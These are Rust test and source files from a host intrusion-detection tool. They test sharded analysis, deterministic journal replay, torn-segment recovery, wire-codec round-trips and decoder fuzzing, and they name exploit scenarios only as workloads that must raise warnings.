        assert_eq!(batched.discarded, serial.discarded, "seed {seed}: discarded diverged");
        assert_eq!(
            warning_multiset(&batched.warnings),
            warning_multiset(&serial.warnings),
            "seed {seed}: survivor warnings diverged"
        );
        let multiset = |events: &[(u64, SecpertEvent)]| {
            let mut rendered: Vec<String> =
                events.iter().map(|(sid, e)| format!("{sid} {e:?}")).collect();
            rendered.sort();
            rendered
        };
        assert_eq!(
            multiset(&batched.lost_events),
            multiset(&serial.lost_events),
            "seed {seed}: lost events diverged"
        );
    }
}

/// The correlator's chaos guarantee: a quarantined shard loses events,
/// but it cannot lose the *fleet verdict*. For every seed, the chaos
/// pool's (partial) digests plus digests rebuilt from the captured
/// lost events reconcile — via [`SessionDigest::merge`] inside
/// [`Correlator::ingest`] — to byte-identical correlation with the
/// fault-free baseline: same warnings, same cross-session provenance
/// trees. This is the two-halves-merge property of the digest, proved
/// end to end against the campaign that actually coordinates.
#[test]
fn lost_digests_replayed_reconcile_the_fleet_correlation() {
    use hth_core::{CorrelateConfig, Correlator, DigestBuilder};

    let scenarios = hth_workloads::coordinated::scenarios();
    let streams: Vec<(String, Vec<SecpertEvent>)> =
        scenarios.iter().map(|s| (s.id.to_string(), record(s).1)).collect();

    let run = |faults: Option<Arc<FaultPlan>>, max_respawns: u32| {
        let config = PoolConfig {
            shards: 4,
            faults,
            max_respawns,
            keep_lost_events: true,
            ..PoolConfig::default()
        };
        let pool = AnalystPool::new(&config, &PolicyConfig::default()).expect("policy loads");
        for (sid, (label, stream)) in streams.iter().enumerate() {
            pool.set_label(sid as u64, label);
            for event in stream {
                pool.submit(sid as u64, event.clone());
            }
        }
        pool.finish()
    };

    let baseline_report = run(None, 0);
    assert_eq!(baseline_report.lost(), 0);
    let mut baseline = Correlator::new(CorrelateConfig::default());
    for digest in &baseline_report.digests {
        baseline.ingest(digest.clone());
    }
    let baseline = baseline.correlate().expect("correlate");
    assert_eq!(
        baseline.warnings.len(),
        3,
        "the campaign must coordinate in the control run:\n{}",
        baseline.render()
    );

    for seed in SEEDS {
        let mut plan = FaultPlan::from_seed(seed);
        for shard in 0..4 {
            plan = plan.panic_on(shard, 2 + seed % 3);
        }
        let report = run(Some(Arc::new(plan)), (seed % 3) as u32);
        assert!(report.quarantined > 0, "seed {seed}: the guaranteed panics must fire");
        assert_eq!(report.lost_events.len() as u64, report.lost(), "seed {seed}");

        // Rebuild what the quarantined shards never digested: replay
        // each lost event through a fresh stateless engine (for its
        // warnings) into a per-session salvage digest.
        let mut salvage: BTreeMap<u64, DigestBuilder> = BTreeMap::new();
        let mut secpert = Secpert::new(&PolicyConfig::default()).expect("policy loads");
        for (sid, event) in &report.lost_events {
            let label = &streams[*sid as usize].0;
            let builder =
                salvage.entry(*sid).or_insert_with(|| DigestBuilder::new(*sid, label.as_str()));
            builder.observe(event);
            for warning in secpert.process_event(event).expect("stateless replay") {
                builder.observe_warning(&warning);
            }
        }

        // Partial digests + salvage digests merge to the whole.
        let mut correlator = Correlator::new(CorrelateConfig::default());
        for digest in &report.digests {
            correlator.ingest(digest.clone());
        }
        for (_, builder) in salvage {
            correlator.ingest(builder.finish());
        }
        let reconciled = correlator.correlate().expect("correlate");
        assert_eq!(
            reconciled, baseline,
            "seed {seed}: reconciled correlation diverged from the fault-free baseline"
        );
        assert_eq!(
            reconciled.render_trees(),
            baseline.render_trees(),
            "seed {seed}: rendered fleet trees diverged"
        );
    }
}

/// A torn tail on the *first* segment of a rotated journal cuts a
/// would-be batch at the segment boundary: recovery salvages exactly
/// the frames before the tear plus every later segment, and batched
/// replay of the salvage is byte-identical to per-event replay.
#[test]
fn recover_torn_tail_splits_a_batch_at_a_segment_boundary() {
    use hth_fleet::{
        recover_segments, segment_path, segment_paths, RecoveryReport, SegmentedJournalWriter,
    };

    let stream = workload()
        .iter()
        .map(|s| record(s).1)
        .max_by_key(Vec::len)
        .expect("the workload is non-empty");
    assert!(stream.len() > 8, "the longest stream must span several frames");

    let dir = std::env::temp_dir().join("hth-chaos-torn-segment");
    std::fs::create_dir_all(&dir).expect("temp dir");
    let base = dir.join("torn.hthj");
    for path in segment_paths(&base) {
        std::fs::remove_file(path).expect("stale segment");
    }
    // Small segments force rotation mid-stream, so a 64-event batch
    // would span segment boundaries if batches were not cut per segment.
    let mut writer = SegmentedJournalWriter::create(&base, 256).expect("create");
    for event in &stream {
        writer.append(event).expect("append");
    }
    assert!(writer.segments() > 1, "the stream must rotate");
    writer.finish().expect("finish");

    // Tear the first segment mid-frame: its last event becomes a torn
    // tail, right where the batched replay crosses into segment 1.
    let first = segment_path(&base, 0);
    let bytes = std::fs::read(&first).expect("segment 0");
    std::fs::write(&first, &bytes[..bytes.len() - 3]).expect("torn write");

    let (salvaged, reports) = recover_segments(&base).expect("recover");
    assert_eq!(reports[0].frames_dropped, 1, "the torn frame is the only loss");
    assert!(reports[1..].iter().all(RecoveryReport::is_clean), "later segments are untouched");
    assert_eq!(
        salvaged.len() as u64 + 1,
        stream.len() as u64,
        "salvage must lose exactly the torn frame"
    );

    // The salvage equals the stream minus the torn frame; batched and
    // per-event replay of it agree warning-for-warning.
    let torn_index = reports[0].frames_ok as usize;
    let mut expected = stream.clone();
    expected.remove(torn_index);
    assert_eq!(salvaged, expected, "salvage is the stream minus the torn frame");

    let mut per_event = Secpert::new(&PolicyConfig::default()).expect("policy loads");
    let mut want = Vec::new();
    for event in &salvaged {
        want.extend(per_event.process_event(event).expect("replay"));
    }
    let mut batched = Secpert::new(&PolicyConfig::default()).expect("policy loads");
    let mut got = Vec::new();
    for run in salvaged.chunks(64) {
        got.extend(batched.process_batch(run).expect("replay"));
    }
    assert_eq!(warning_multiset(&got), warning_multiset(&want));
    assert_eq!(got.len(), want.len());
    assert_eq!(per_event.match_stats(), batched.match_stats());
}
