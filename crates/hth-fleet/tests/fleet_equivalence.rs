//! The fleet acceptance property: running ≥ 8 sessions across a
//! 4-shard analyst pool produces the same aggregate warning multiset
//! (severity × rule counts) as running the same sessions sequentially
//! through the classic inline pipeline.

use hth_fleet::{run_scenarios, warning_multiset, FleetConfig, PoolConfig};
use hth_workloads::Scenario;

/// The workload set: every Table 8 exploit plus the trojaned tic-tac-toe
/// macro benchmarks — 9 sessions, all of which warn.
fn workload() -> Vec<Scenario> {
    let mut scenarios = hth_workloads::exploits::scenarios();
    scenarios.extend(
        hth_workloads::macro_bench::scenarios()
            .into_iter()
            .filter(|s| s.id == "ttt" || s.id == "ttt_trojaned"),
    );
    scenarios
}

#[test]
fn fleet_matches_sequential_warning_multiset() {
    let scenarios = workload();
    assert!(scenarios.len() >= 8, "acceptance requires >= 8 sessions, got {}", scenarios.len());

    // Sequential baseline: each scenario through its own inline session.
    let mut sequential = Vec::new();
    for scenario in &scenarios {
        let result = scenario.run().expect("scenario runs");
        sequential.extend(result.warnings);
    }
    let expected = warning_multiset(&sequential);
    assert!(!expected.is_empty(), "the exploit corpus must warn");

    // The same scenarios as a fleet over 4 analyst shards.
    let config = FleetConfig {
        pool: PoolConfig { shards: 4, ..PoolConfig::default() },
        workers: 4,
        ..FleetConfig::default()
    };
    let report = run_scenarios(workload(), &config).expect("policy loads");

    assert!(report.session_errors.is_empty(), "{:?}", report.session_errors);
    assert!(report.analyst_errors.is_empty(), "{:?}", report.analyst_errors);
    assert_eq!(report.sessions, scenarios.len());
    assert_eq!(
        report.warning_counts, expected,
        "fleet and sequential runs must agree on the warning multiset"
    );
    // The pool really was sharded: stats exist for all 4 shards and the
    // analysed volume adds up.
    assert_eq!(report.shards.len(), 4);
    assert_eq!(report.shards.iter().map(|s| s.events).sum::<u64>(), report.events);
    assert_eq!(report.shards.iter().map(|s| s.dropped).sum::<u64>(), 0, "Block policy is lossless");
}
