//! Wire-compat regression: a journal recorded *before* the syscall-ABI
//! refactor (committed as `tests/golden/journals/pre_refactor_abi.hthj`)
//! must keep decoding and replaying to the byte-identical warning
//! transcript forever. New effect/resource codes are strictly additive;
//! this test is the tripwire that proves it.
//!
//! Regenerate (only legitimate when *adding* a scenario to the fixture,
//! never to paper over a decode change):
//!     UPDATE_GOLDEN=1 cargo test -p hth-fleet --test wire_compat

use std::sync::{Arc, Mutex};

use hth_core::{PolicyConfig, Secpert, Session, SessionConfig};
use hth_fleet::{replay, JournalReader, JournalWriter};
use hth_workloads::Scenario;

fn fixture_path(name: &str) -> String {
    format!("{}/../../tests/golden/journals/{name}", env!("CARGO_MANIFEST_DIR"))
}

/// Runs a scenario live while recording its event stream; returns the
/// journal bytes.
fn record(scenario: &Scenario) -> Vec<u8> {
    let journal = Arc::new(Mutex::new(JournalWriter::new(Vec::new()).expect("vec sink")));
    let mut session = Session::new(SessionConfig::default()).expect("policy loads");
    let start = (scenario.setup)(&mut session);
    let sink = Arc::clone(&journal);
    session.set_event_tap(Box::new(move |event| {
        sink.lock().expect("journal sink").append(event).expect("vec journal append");
    }));
    let argv: Vec<&str> = start.argv.iter().map(String::as_str).collect();
    let env: Vec<(&str, &str)> = start.env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    session.start(start.path, &argv, &env).expect("spawns");
    session.run().expect("runs");
    drop(session);
    Arc::try_unwrap(journal)
        .unwrap_or_else(|_| unreachable!("tap dropped with the session"))
        .into_inner()
        .expect("sink")
        .finish()
        .expect("flush")
}

fn transcript(bytes: &[u8]) -> String {
    let reader = JournalReader::new(bytes).expect("journal header");
    let mut secpert = Secpert::new(&PolicyConfig::default()).expect("policy loads");
    let replayed = replay(reader, &mut secpert).expect("replay");
    let mut out = String::new();
    for w in &replayed {
        out.push_str(&format!(
            "t={} pid={} {} [{}] {}\n",
            w.time,
            w.pid,
            w.rule,
            w.severity.label(),
            w.message
        ));
    }
    out
}

/// The frozen pre-refactor journal replays byte-identically: both the
/// committed journal bytes and the warning transcript they produce are
/// pinned. If a wire/effect/resource code change breaks this, the change
/// was not additive.
#[test]
fn pre_refactor_journal_replays_byte_identically() {
    let journal_path = fixture_path("pre_refactor_abi.hthj");
    let transcript_path = fixture_path("pre_refactor_abi.warnings.txt");

    if std::env::var_os("UPDATE_GOLDEN").is_some() {
        let pma = hth_workloads::exploits::scenarios()
            .into_iter()
            .find(|s| s.id == "pma")
            .expect("pma is in the Table 8 set");
        let bytes = record(&pma);
        let rendered = transcript(&bytes);
        assert!(!rendered.is_empty(), "fixture scenario must warn");
        std::fs::write(&journal_path, &bytes).expect("write journal fixture");
        std::fs::write(&transcript_path, &rendered).expect("write transcript fixture");
        return;
    }

    let bytes = std::fs::read(&journal_path)
        .expect("pre-refactor journal fixture exists (UPDATE_GOLDEN=1 to seed)");
    let expected =
        std::fs::read_to_string(&transcript_path).expect("pre-refactor transcript fixture exists");
    let rendered = transcript(&bytes);
    assert_eq!(
        rendered, expected,
        "pre-refactor journal no longer replays to its pinned transcript — \
         a wire/effect/resource code change was not additive"
    );
}
