//! Replay determinism: record the `backdoor_hunt` workload (the paper's
//! `pma` backdoor, the scenario behind `examples/backdoor_hunt.rs`) to a
//! journal through the session event tap, replay the journal through a
//! fresh Secpert, and require the *identical* warning sequence — and the
//! same trace the golden snapshot from PR 1 pins.

use std::sync::{Arc, Mutex};

use hth_core::{PolicyConfig, Secpert, Session, SessionConfig, Warning};
use hth_fleet::{replay, JournalReader, JournalWriter};
use hth_workloads::Scenario;

fn pma() -> Scenario {
    hth_workloads::exploits::scenarios()
        .into_iter()
        .find(|s| s.id == "pma")
        .expect("pma is in the Table 8 set")
}

/// Runs a scenario live (inline analysis on) while recording its event
/// stream; returns the live warnings and the journal bytes.
fn record(scenario: &Scenario) -> (Vec<Warning>, Vec<u8>) {
    let journal = Arc::new(Mutex::new(JournalWriter::new(Vec::new()).expect("vec sink")));
    let mut session = Session::new(SessionConfig::default()).expect("policy loads");
    let start = (scenario.setup)(&mut session);
    let sink = Arc::clone(&journal);
    session.set_event_tap(Box::new(move |event| {
        sink.lock().expect("journal sink").append(event).expect("vec journal append");
    }));
    let argv: Vec<&str> = start.argv.iter().map(String::as_str).collect();
    let env: Vec<(&str, &str)> = start.env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    session.start(start.path, &argv, &env).expect("spawns");
    session.run().expect("runs");
    let warnings = session.warnings().to_vec();
    drop(session); // releases the tap's Arc
    let writer = Arc::try_unwrap(journal)
        .unwrap_or_else(|_| unreachable!("tap dropped with the session"))
        .into_inner()
        .expect("sink");
    (warnings, writer.finish().expect("flush"))
}

#[test]
fn journal_replay_reproduces_the_live_warning_sequence() {
    let (live, bytes) = record(&pma());
    assert!(!live.is_empty(), "pma must warn");

    let reader = JournalReader::new(&bytes[..]).expect("journal header");
    let mut secpert = Secpert::new(&PolicyConfig::default()).expect("policy loads");
    let replayed = replay(reader, &mut secpert).expect("replay");

    assert_eq!(replayed, live, "offline replay must reproduce the live run warning-for-warning");
}

#[test]
fn replayed_warnings_match_the_golden_snapshot() {
    let (_, bytes) = record(&pma());
    let reader = JournalReader::new(&bytes[..]).expect("journal header");
    let mut secpert = Secpert::new(&PolicyConfig::default()).expect("policy loads");
    let replayed = replay(reader, &mut secpert).expect("replay");

    let mut rendered = String::new();
    for w in &replayed {
        rendered.push_str(&format!(
            "t={} pid={} {} [{}] {}\n",
            w.time,
            w.pid,
            w.rule,
            w.severity.label(),
            w.message
        ));
    }

    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../tests/golden/warnings.txt");
    let golden = std::fs::read_to_string(path).expect("PR 1's golden snapshot exists");
    let pma_block: String = golden
        .split("== ")
        .find(|block| block.starts_with("pma "))
        .expect("pma block in golden")
        .lines()
        .skip(1) // the "pma (Table 8)" heading itself
        .map(|line| format!("{line}\n"))
        .collect();
    assert_eq!(
        rendered, pma_block,
        "replayed warning trace diverged from the pinned golden pma trace"
    );
}
