//! Supervision regressions for the analyst pool.
//!
//! The headline regression: under `Backpressure::Block`, a shard whose
//! analyst died used to stop draining its queue, so the next submitter
//! to hit the bound waited on `not_full` forever — a deadlock wired to
//! a single engine failure. Supervision keeps every worker draining
//! (quarantine + respawn while the budget lasts, drain-and-discard
//! after), so a blocked submitter always makes progress. The tests run
//! the submission under a watchdog: if the fix regresses, they fail in
//! seconds instead of hanging CI.

use std::sync::mpsc;
use std::sync::Arc;
use std::time::Duration;

use harrier::{Origin, ResourceType, SecpertEvent, SourceInfo};
use hth_core::PolicyConfig;
use hth_fleet::{AnalystPool, Backpressure, FaultPlan, PoolConfig, PoolReport};

fn event(i: u64) -> SecpertEvent {
    SecpertEvent::ResourceAccess {
        pid: 1,
        syscall: "SYS_execve",
        resource: SourceInfo::new(ResourceType::File, "/bin/ls"),
        origin: Origin { sources: vec![SourceInfo::new(ResourceType::Binary, "/bin/x")] },
        time: i,
        frequency: 5,
        address: 0,
        proc_count: None,
        proc_rate: None,
        mem_total: None,
        server: None,
    }
}

/// Runs `submit`-flood + `finish` on a watchdog thread; panics if the
/// whole pool interaction does not complete within the deadline.
fn with_watchdog(config: PoolConfig, submissions: u64, deadline: Duration) -> PoolReport {
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        let pool = AnalystPool::new(&config, &PolicyConfig::default()).expect("policy loads");
        for i in 0..submissions {
            pool.submit(0, event(i));
        }
        let _ = tx.send(pool.finish());
    });
    match rx.recv_timeout(deadline) {
        Ok(report) => report,
        Err(_) => panic!(
            "pool deadlocked: {submissions} Block submissions did not drain within {deadline:?} \
             (the failed-shard drain regression is back)"
        ),
    }
}

/// The regression itself: every event panics the engine, the respawn
/// budget is zero, the queue holds two events, and the submitter uses
/// `Block`. The old pool deadlocked here; the supervised pool drains
/// everything and accounts for every event.
#[test]
fn block_submit_does_not_deadlock_when_the_shard_has_failed() {
    let plan = FaultPlan::new().panic_on(0, 1);
    let config = PoolConfig {
        shards: 1,
        queue_capacity: 2,
        backpressure: Backpressure::Block,
        max_respawns: 0,
        faults: Some(Arc::new(plan)),
        ..PoolConfig::default()
    };
    let report = with_watchdog(config, 200, Duration::from_secs(30));
    let stats = &report.shards[0];
    assert_eq!(stats.submitted, 200);
    assert_eq!(stats.quarantined, 1, "the panicking event");
    assert_eq!(stats.discarded, 199, "everything after the failure is drained, not stuck");
    assert_eq!(stats.events, 0);
    assert_eq!(stats.submitted, stats.events + stats.lost(), "no silent loss");
    assert!(report.errors.iter().any(|e| e.contains("respawn budget")), "{:?}", report.errors);
}

/// Same shape but with a respawn budget: the shard recovers and *keeps
/// analysing*, so Block stays lossless apart from the quarantined
/// events themselves.
#[test]
fn block_submit_survives_repeated_panics_within_budget() {
    let plan = FaultPlan::new().panic_on(0, 10).panic_on(0, 20).panic_on(0, 30);
    let config = PoolConfig {
        shards: 1,
        queue_capacity: 2,
        backpressure: Backpressure::Block,
        max_respawns: 3,
        faults: Some(Arc::new(plan)),
        ..PoolConfig::default()
    };
    let report = with_watchdog(config, 100, Duration::from_secs(30));
    let stats = &report.shards[0];
    assert_eq!(stats.submitted, 100);
    assert_eq!(stats.quarantined, 3);
    assert_eq!(stats.respawns, 3);
    assert_eq!(stats.events, 97, "analysis resumes after every respawn");
    assert_eq!(stats.discarded, 0);
    assert_eq!(report.warnings.len(), 97);
    assert!(report.errors.is_empty(), "budgeted respawns are not errors: {:?}", report.errors);
}

/// Injected queue stalls slow a shard down but lose nothing under
/// Block: the submitter just waits out the stall.
#[test]
fn stalls_delay_but_never_lose_events() {
    let plan = FaultPlan::new().stall_on(0, 3, 25).stall_on(0, 7, 25);
    let config = PoolConfig {
        shards: 1,
        queue_capacity: 2,
        backpressure: Backpressure::Block,
        faults: Some(Arc::new(plan)),
        ..PoolConfig::default()
    };
    let report = with_watchdog(config, 40, Duration::from_secs(30));
    let stats = &report.shards[0];
    assert_eq!(stats.submitted, 40);
    assert_eq!(stats.events, 40);
    assert_eq!(stats.lost(), 0);
    assert_eq!(report.warnings.len(), 40);
}
