//! Wire-codec round-trip property: arbitrary [`SecpertEvent`]s — both
//! variants, empty and unicode resource names, multi-source origin sets,
//! extreme integers — survive encode→decode exactly, and the encoding
//! itself is deterministic (same events, fresh encoder → same bytes).

use harrier::{Origin, ResourceType, SecpertEvent, ServerInfo, SourceInfo};
use hth_fleet::{EventDecoder, EventEncoder};
use proptest::prelude::*;

const SYSCALLS: &[&str] =
    &["SYS_execve", "SYS_open", "SYS_write", "SYS_send", "SYS_clone", "SYS_accept"];

fn resource_type() -> impl Strategy<Value = ResourceType> {
    (0usize..ResourceType::ALL.len()).prop_map(|i| ResourceType::ALL[i])
}

fn name() -> impl Strategy<Value = String> {
    prop_oneof![Just(String::new()), Just("/etc/passwd".to_string()), "\\PC{0,40}"]
}

fn source() -> impl Strategy<Value = SourceInfo> {
    (resource_type(), name()).prop_map(|(kind, name)| SourceInfo { kind, name })
}

fn origin() -> impl Strategy<Value = Origin> {
    prop::collection::vec(source(), 0..5).prop_map(|sources| Origin { sources })
}

fn server() -> impl Strategy<Value = Option<ServerInfo>> {
    (any::<bool>(), name(), origin())
        .prop_map(|(present, address, origin)| present.then_some(ServerInfo { address, origin }))
}

fn opt_u64() -> impl Strategy<Value = Option<u64>> {
    (any::<bool>(), any::<u64>()).prop_map(|(present, v)| present.then_some(v))
}

fn syscall() -> impl Strategy<Value = &'static str> {
    (0usize..SYSCALLS.len()).prop_map(|i| SYSCALLS[i])
}

fn resource_access() -> impl Strategy<Value = SecpertEvent> {
    (
        (any::<u32>(), syscall(), source(), origin()),
        (any::<u64>(), any::<u64>(), any::<u32>()),
        (opt_u64(), opt_u64(), opt_u64(), server()),
    )
        .prop_map(
            |(
                (pid, syscall, resource, origin),
                (time, frequency, address),
                (proc_count, proc_rate, mem_total, server),
            )| {
                SecpertEvent::ResourceAccess {
                    pid,
                    syscall,
                    resource,
                    origin,
                    time,
                    frequency,
                    address,
                    proc_count,
                    proc_rate,
                    mem_total,
                    server,
                }
            },
        )
}

fn data_transfer() -> impl Strategy<Value = SecpertEvent> {
    (
        (any::<u32>(), syscall(), prop::collection::vec(source(), 0..4), origin()),
        (source(), origin()),
        (any::<u64>(), any::<u64>(), any::<u32>(), any::<bool>(), server(), any::<u64>()),
    )
        .prop_map(
            |(
                (pid, syscall, data_sources, data_origin),
                (target, target_origin),
                (time, frequency, address, executable_content, server, bytes),
            )| {
                SecpertEvent::DataTransfer {
                    pid,
                    syscall,
                    data_sources,
                    data_origin,
                    target,
                    target_origin,
                    time,
                    frequency,
                    address,
                    executable_content,
                    server,
                    bytes,
                }
            },
        )
}

fn event() -> impl Strategy<Value = SecpertEvent> {
    prop_oneof![resource_access(), data_transfer()]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(192))]

    #[test]
    fn events_round_trip_through_the_wire(events in prop::collection::vec(event(), 1..12)) {
        // One encoder/decoder pair across the whole stream, so string
        // back-references cross event boundaries like they do in a
        // journal.
        let mut encoder = EventEncoder::new();
        let mut buf = Vec::new();
        for event in &events {
            encoder.encode(event, &mut buf);
        }

        let mut decoder = EventDecoder::new();
        let mut pos = 0;
        let mut decoded = Vec::with_capacity(events.len());
        while pos < buf.len() {
            let (event, used) = decoder.decode(&buf[pos..]).expect("stream we wrote decodes");
            prop_assert!(used > 0);
            pos += used;
            decoded.push(event);
        }
        prop_assert_eq!(pos, buf.len());
        prop_assert_eq!(&decoded, &events);

        // Encoding is a pure function of the event sequence: re-encoding
        // the decoded events byte-matches the original stream.
        let mut re_encoder = EventEncoder::new();
        let mut re_buf = Vec::new();
        for event in &decoded {
            re_encoder.encode(event, &mut re_buf);
        }
        prop_assert_eq!(re_buf, buf);
    }
}
