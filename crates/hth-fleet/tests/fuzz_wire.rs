//! Decoder-totality fuzzing: mutate valid wire streams — bit flips,
//! truncations, splices of two streams, byte stomps — and assert the
//! decoder is *total*: every call returns `Ok` or a [`WireError`],
//! never panics, never loops without consuming input, and never
//! allocates anywhere near a corrupt length claim.
//!
//! Every test fn is named `fuzz_wire_*` so CI can run exactly this
//! suite with `cargo test -p hth-fleet fuzz_wire` (bounded via the
//! `PROPTEST_CASES` env var the proptest shim honours).

use std::panic::{catch_unwind, AssertUnwindSafe};

use harrier::{Origin, ResourceType, SecpertEvent, SourceInfo};
use hth_fleet::{EventDecoder, EventEncoder};
use proptest::prelude::*;

const SYSCALLS: &[&str] = &["SYS_execve", "SYS_open", "SYS_write", "SYS_send"];

fn source() -> impl Strategy<Value = SourceInfo> {
    ((0usize..ResourceType::ALL.len()), "\\PC{0,24}")
        .prop_map(|(i, name)| SourceInfo { kind: ResourceType::ALL[i], name })
}

fn event() -> impl Strategy<Value = SecpertEvent> {
    (
        any::<u32>(),
        0usize..SYSCALLS.len(),
        source(),
        prop::collection::vec(source(), 0..4),
        any::<u64>(),
        any::<u64>(),
    )
        .prop_map(|(pid, sc, resource, sources, time, frequency)| {
            SecpertEvent::ResourceAccess {
                pid,
                syscall: SYSCALLS[sc],
                resource,
                origin: Origin { sources },
                time,
                frequency,
                address: 0,
                proc_count: None,
                proc_rate: None,
                mem_total: None,
                server: None,
            }
        })
}

fn encode_stream(events: &[SecpertEvent]) -> Vec<u8> {
    let mut encoder = EventEncoder::new();
    let mut buf = Vec::new();
    for event in events {
        encoder.encode(event, &mut buf);
    }
    buf
}

/// Decodes as much of `buf` as possible, asserting totality invariants:
/// no panic, every `Ok` consumes at least one byte, the loop always
/// terminates. Returns how many events decoded before the first error.
fn assert_total(buf: &[u8]) -> usize {
    let outcome = catch_unwind(AssertUnwindSafe(|| {
        let mut decoder = EventDecoder::new();
        let mut pos = 0;
        let mut decoded = 0usize;
        while pos < buf.len() {
            match decoder.decode(&buf[pos..]) {
                Ok((_, used)) => {
                    assert!(used > 0, "decode must consume input");
                    assert!(pos + used <= buf.len(), "decode must not overrun");
                    pos += used;
                    decoded += 1;
                }
                Err(_) => break, // a typed WireError is a valid outcome
            }
        }
        decoded
    }));
    outcome.unwrap_or_else(|_| panic!("decoder panicked on {} bytes: {buf:02x?}", buf.len()))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    #[test]
    fn fuzz_wire_bit_flips_never_panic(
        events in prop::collection::vec(event(), 1..8),
        flips in prop::collection::vec((any::<u16>(), 0u8..8), 1..6),
    ) {
        let mut buf = encode_stream(&events);
        for (pos, bit) in flips {
            let idx = pos as usize % buf.len();
            buf[idx] ^= 1 << bit;
        }
        assert_total(&buf);
    }

    #[test]
    fn fuzz_wire_truncations_never_panic(
        events in prop::collection::vec(event(), 1..8),
        keep in any::<u16>(),
    ) {
        let buf = encode_stream(&events);
        let keep = keep as usize % (buf.len() + 1);
        assert_total(&buf[..keep]);
    }

    #[test]
    fn fuzz_wire_splices_never_panic(
        left in prop::collection::vec(event(), 1..6),
        right in prop::collection::vec(event(), 1..6),
        cut_l in any::<u16>(),
        cut_r in any::<u16>(),
    ) {
        // Stitch the head of one stream onto the tail of another: the
        // seam lands mid-frame and the interning tables disagree.
        let a = encode_stream(&left);
        let b = encode_stream(&right);
        let cut_a = cut_l as usize % (a.len() + 1);
        let cut_b = cut_r as usize % (b.len() + 1);
        let mut spliced = a[..cut_a].to_vec();
        spliced.extend_from_slice(&b[cut_b..]);
        assert_total(&spliced);
    }

    #[test]
    fn fuzz_wire_byte_stomps_never_panic(
        events in prop::collection::vec(event(), 1..8),
        stomps in prop::collection::vec((any::<u16>(), any::<u8>()), 1..8),
    ) {
        let mut buf = encode_stream(&events);
        for (pos, value) in stomps {
            let idx = pos as usize % buf.len();
            buf[idx] = value;
        }
        assert_total(&buf);
    }

    #[test]
    fn fuzz_wire_garbage_never_panics(bytes in prop::collection::vec(any::<u8>(), 0..256)) {
        assert_total(&bytes);
    }
}

/// Adversarial length claims must be rejected without a matching
/// allocation: a stream whose varint claims a multi-gigabyte string or
/// collection is only a handful of bytes long, so a total decoder
/// errors out instead of reserving the claimed size.
#[test]
fn fuzz_wire_huge_length_claims_error_without_allocating() {
    // Each probe: a valid one-event prefix, then a tag byte and a
    // maximal varint where a length is expected.
    let valid = encode_stream(&[SecpertEvent::ResourceAccess {
        pid: 1,
        syscall: "SYS_open",
        resource: SourceInfo::new(ResourceType::File, "/etc/passwd"),
        origin: Origin { sources: vec![] },
        time: 1,
        frequency: 1,
        address: 0,
        proc_count: None,
        proc_rate: None,
        mem_total: None,
        server: None,
    }]);
    let huge_varint = [0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x01];
    for tag in [0u8, 1u8] {
        let mut probe = valid.clone();
        probe.push(tag);
        probe.extend_from_slice(&huge_varint);
        // If the decoder allocated what the varint claims (~u64::MAX),
        // this would abort the process, not return — so returning at
        // all *is* the over-allocation assertion.
        assert_total(&probe);
    }
}

/// Extended soak: the same mutations at 50× the case count. Ignored by
/// default; CI runs it with `--include-ignored` under a bounded
/// `PROPTEST_CASES`.
#[test]
#[ignore = "extended soak; run explicitly or via --include-ignored"]
fn fuzz_wire_extended_soak() {
    // Drive the shim's RNG directly for a deterministic large sweep.
    let events: Vec<SecpertEvent> = (0..16)
        .map(|i| SecpertEvent::ResourceAccess {
            pid: i,
            syscall: SYSCALLS[i as usize % SYSCALLS.len()],
            resource: SourceInfo::new(ResourceType::File, format!("/tmp/f{i}")),
            origin: Origin { sources: vec![SourceInfo::new(ResourceType::Binary, "/bin/x")] },
            time: u64::from(i),
            frequency: u64::from(i) * 3,
            address: 0,
            proc_count: None,
            proc_rate: None,
            mem_total: None,
            server: None,
        })
        .collect();
    let clean = encode_stream(&events);
    let cases: usize =
        std::env::var("PROPTEST_CASES").ok().and_then(|v| v.parse().ok()).unwrap_or(5000);
    let mut state = 0x5EED_F00D_u64;
    let mut next = move || {
        state = state.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = state;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    };
    for _ in 0..cases {
        let mut buf = clean.clone();
        for _ in 0..(next() % 8 + 1) {
            let r = next();
            let idx = (r as usize >> 8) % buf.len();
            match r % 3 {
                0 => buf[idx] ^= 1 << (r >> 40 & 7),
                1 => buf[idx] = (r >> 32) as u8,
                _ => buf.truncate(idx),
            }
            if buf.is_empty() {
                break;
            }
        }
        assert_total(&buf);
    }
}
