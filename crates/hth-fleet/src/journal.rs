//! Append-only event journals: record a live session's event stream
//! once, replay it through any policy offline — and survive the ways
//! real recordings die.
//!
//! A journal is a [`wire`](crate::wire) stream with one extra layer of
//! framing. Three framing versions coexist:
//!
//! * **v1** (`HTHW` + `0x01`) — each event is its varint-encoded length
//!   followed by the payload. Readable forever, but a flipped payload
//!   byte is invisible until the decoder trips over it (or worse,
//!   decodes the wrong event silently).
//! * **v2** (`HTHW` + `0x02`) — each frame is the varint payload
//!   length, a CRC32 of the payload (4 bytes little-endian), then the
//!   payload. Bit rot and torn writes are *detected*, and [`recover`]
//!   distinguishes a clean end of stream from a torn tail from
//!   mid-stream corruption, salvaging every decodable prefix.
//! * **v3** (`HTHW` + `0x03`, the default) — v2's CRC framing carrying
//!   version-2 *event* payloads (the `bytes` transfer counter that
//!   fleet correlation sums). v1/v2 journals keep decoding forever;
//!   their transfers simply report zero bytes.
//!
//! The string-interning table spans one journal stream — records must
//! be read in order, and nothing after a corrupt frame can be trusted.
//! [`SegmentedJournalWriter`] bounds that blast radius: it rotates to a
//! fresh segment (fresh header, fresh interning table) every
//! `max_segment_bytes`, so a corrupt byte costs at most the rest of its
//! segment, never the rest of the recording.

use std::io::{Read, Write};
use std::path::{Path, PathBuf};
use std::sync::Arc;

use harrier::SecpertEvent;
use hth_core::{Secpert, Warning};
use secpert_engine::EngineError;

use crate::faults::{FaultPlan, JournalFault};
use crate::wire::{
